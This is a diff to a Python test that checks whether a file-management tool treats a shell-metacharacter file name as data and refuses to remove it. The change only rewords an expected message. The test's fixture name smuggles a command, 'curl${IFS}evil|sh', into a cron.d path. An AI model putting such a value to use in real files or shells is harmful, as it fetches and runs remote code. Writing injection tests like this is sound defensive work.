@@ -600,7 +600,7 @@ def test_a_name_that_a_shell_would_obey_is_no_command_and_is_not_removed(bare: D
     """An operator pastes the next step into the shell of their own machine."""
     bare.put("etc/cron.d/x;curl${IFS}evil|sh", "x")
     (line,) = foreign.problems(bare.look())
-    assert line.endswith("put it right by hand, or accept it in group_data (foreign_accepted)")
+    assert line.endswith("correct it by hand, or accept it in group_data (foreign_accepted)")
     with pytest.raises(RefusedError, match="nothing foreign"):
         bare.remove("/etc/cron.d/x;curl${IFS}evil|sh")
 
